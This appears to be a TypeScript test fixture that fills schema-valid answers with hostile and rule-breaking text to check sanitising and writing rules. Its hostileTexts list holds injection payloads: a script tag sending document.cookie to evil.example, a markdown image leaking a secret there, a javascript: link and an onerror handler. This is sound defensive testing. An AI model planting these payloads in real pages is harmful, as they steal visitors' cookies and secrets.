import { type JsonSchema, resolved, typesOf } from './json-schema.ts';
import { clipped, type ProseLanguage } from './prose.ts';

/** What a hostile answer smuggles in; `https://evil.example` must never be asked for anything. */
export const hostileTexts = [
  '<script>fetch("https://evil.example/?q=" + document.cookie)</script>',
  '![x](https://evil.example/?q=secret)',
  '[more](javascript:alert(1))',
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
] as const;

/** One fault each: an invented number, jargon, a sentence of forty words, another language. */
export const ruleBreakingTexts: Record<ProseLanguage, readonly string[]> = {
  fr: [
    'Déjà 48 127 clients conquis.',
    'Une synergie disruptive et scalable.',
    'Cette offre accompagne pas à pas chaque client qui cherche depuis longtemps une réponse simple à un problème ancien que tout le monde connaît mais que personne dans ce métier ne prend encore vraiment le temps de regarder en face.',
    'This sentence was not asked for in this language.',
  ],
  en: [
    'Already 48,127 customers won.',
    'A disruptive, scalable, best-in-class synergy.',
    'This offer goes step by step with every customer who has been looking for a long time for a simple answer to an old problem that everybody knows but that nobody in this trade has ever really taken the time to face.',
    'Cette phrase n’est pas dans la langue demandée.',
  ],
  es: [
    'Ya son 48.127 clientes conquistados.',
    'Una sinergia disruptiva y escalable.',
    'Esta oferta acompaña paso a paso a cada cliente que busca desde hace mucho tiempo una respuesta sencilla a un problema antiguo que todo el mundo conoce pero que nadie en este oficio se ha tomado nunca el tiempo de mirar.',
    'This sentence was not asked for in this language.',
  ],
};

/** The same answer, still of its schema, with one of the texts after another at the end of each of its own texts. */
export function spoil(value: unknown, root: JsonSchema, texts: readonly string[]): unknown {
  let told = 0;
  return spoiled(value, root);

  function spoiled(item: unknown, given: JsonSchema): unknown {
    const schema = chosenFor(item, given, root);
    if (typeof item === 'string') return isFree(schema) ? withText(item, schema) : item;
    if (Array.isArray(item)) {
      return item.map((one: unknown, index) =>
        spoiled(one, schema.prefixItems?.[index] ?? schema.items ?? {}),
      );
    }
    if (typeof item !== 'object' || item === null) return item;
    const properties = Object.entries(item).map(([name, one]: [string, unknown]) => {
      const { additionalProperties: others } = schema;
      return [name, spoiled(one, schema.properties?.[name] ?? (typeof others === 'object' ? others : {}))];
    });
    return Object.fromEntries(properties);
  }

  function withText(text: string, { minLength = 0, maxLength = Infinity }: JsonSchema): string {
    const bad = texts[told++ % texts.length] ?? '';
    const both = `${text} ${bad}`;
    return both.length <= maxLength ? both : clipped(bad, minLength, maxLength);
  }
}

function isFree(schema: JsonSchema): boolean {
  return schema.const === undefined && !schema.enum && !schema.format && !schema.pattern;
}

/** Of several choices the one that the value was made for. */
function chosenFor(value: unknown, given: JsonSchema, root: JsonSchema): JsonSchema {
  const schema = resolved(given, root);
  const choices = schema.anyOf ?? schema.oneOf;
  if (!choices) return schema;
  const fitting = choices
    .map((choice) => chosenFor(value, choice, root))
    .find((choice) => fits(value, choice));
  return fitting ?? {};
}

function fits(value: unknown, schema: JsonSchema): boolean {
  if (schema.const !== undefined) return schema.const === value;
  if (schema.enum) return schema.enum.includes(value);
  if (!typesOf(schema).includes(typeNameOf(value))) return false;
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return true;
  return Object.entries(value).every(([name, one]: [string, unknown]) => {
    const property = schema.properties?.[name];
    return property?.const === undefined || property.const === one;
  });
}

function typeNameOf(value: unknown): string {
  if (value === null) return 'null';
  return Array.isArray(value) ? 'array' : typeof value;
}
